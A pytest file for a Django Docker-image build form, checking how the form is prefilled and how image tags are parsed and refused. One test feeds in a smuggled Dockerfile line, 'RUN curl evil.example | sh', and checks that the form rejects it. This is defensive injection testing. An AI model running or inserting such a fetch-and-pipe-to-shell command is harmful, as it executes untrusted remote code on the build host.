"""The build page's form: what it is filled with, and the tags it takes
(no build runs here: refused forms make no job)."""

import html
import re

import pytest
from django.urls import reverse

from images.builds.forms import BuildForm
from images.models import Job
from tests import dockerlib
from tests.test_tags import hex_of, two_images  # noqa: F401 - the fixture


def field_value(page, name):
    """The value an <input> or <textarea> named `name` holds on a page."""
    found = re.search(rf'<input[^>]*name="{name}"[^>]*>', page)
    if found:
        value = re.search(r'value="([^"]*)"', found.group(0))
        return html.unescape(value.group(1)) if value else ""
    found = re.search(rf'<textarea[^>]*name="{name}"[^>]*>(.*?)</textarea>', page, re.S)
    return html.unescape(found.group(1)).strip("\r\n") if found else None


def build_link(page):
    found = re.search(r'<a class="button" href="([^"]*)">Build from a Dockerfile</a>', page)
    assert found, "no Build from a Dockerfile link"
    return html.unescape(found.group(1))


def test_build_from_an_image_starts_from_it_and_never_retags_it(owner_client, two_images):
    repo, one = two_images["repo"], two_images["one"]
    image_page = owner_client.get(reverse("images-detail", args=[hex_of(one)])).content.decode()
    form = owner_client.get(build_link(image_page)).content.decode()
    assert field_value(form, "tags") == ""  # submitting cannot move the image's own tag
    assert re.search(rf"^FROM {re.escape(repo)}:one$", field_value(form, "dockerfile_text"), re.M)


def test_the_build_page_starts_only_from_a_valid_reference(owner_client):
    form = owner_client.get(reverse("jobs-build"), {"from": "alpine:3\nRUN curl evil.example | sh"}).content.decode()
    assert "evil" not in field_value(form, "dockerfile_text")
    assert field_value(form, "tags") == ""


def form_for(tags):
    return BuildForm({"source": "dockerfile", "dockerfile_text": f"FROM {dockerlib.BASE_IMAGE}\n", "tags": tags,
                      "builder": "classic", "dockerfile": "Dockerfile"})


@pytest.mark.parametrize("typed, tags", [
    ("walk:1, x:1", ["walk:1", "x:1"]),
    ("walk:1\nx:1\r\n\n", ["walk:1", "x:1"]),
    (" walk:1 ,", ["walk:1"]),
])
def test_tags_are_split_on_commas_and_new_lines(db, base_image, typed, tags):
    form = form_for(typed)
    assert form.is_valid(), form.errors
    assert form.cleaned_data["tags"] == tags


def test_a_tag_with_a_space_is_refused_naming_the_field_and_nothing_is_built(builder_client, base_image):
    response = builder_client.post(reverse("jobs-build"), {
        "source": "dockerfile", "dockerfile_text": f"FROM {dockerlib.BASE_IMAGE}\n", "tags": "walk x:1",
        "builder": "classic", "dockerfile": "Dockerfile"})
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert list(errors) == ["tags"]
    message = errors["tags"][0]
    assert "Tags" in message and "'walk x:1'" in message and "comma" in message
    assert html.escape(message, quote=True) in response.content.decode()
    assert not Job.objects.exists()


def test_the_api_refuses_a_tag_with_a_space_too(builder, base_image):
    from tests.apiclient import bearer

    response = bearer(builder).post("/api/builds", {
        "source": "dockerfile", "dockerfile_text": f"FROM {dockerlib.BASE_IMAGE}\n", "tags": "walk x:1"})
    assert response.status_code == 400
    assert "'walk x:1'" in response.content.decode()
    assert not Job.objects.exists()


def test_the_form_says_a_build_without_tags_is_left_untagged(builder_client):
    page = html.unescape(builder_client.get(reverse("jobs-build")).content.decode())
    assert "Leave it empty and the image is untagged" in page
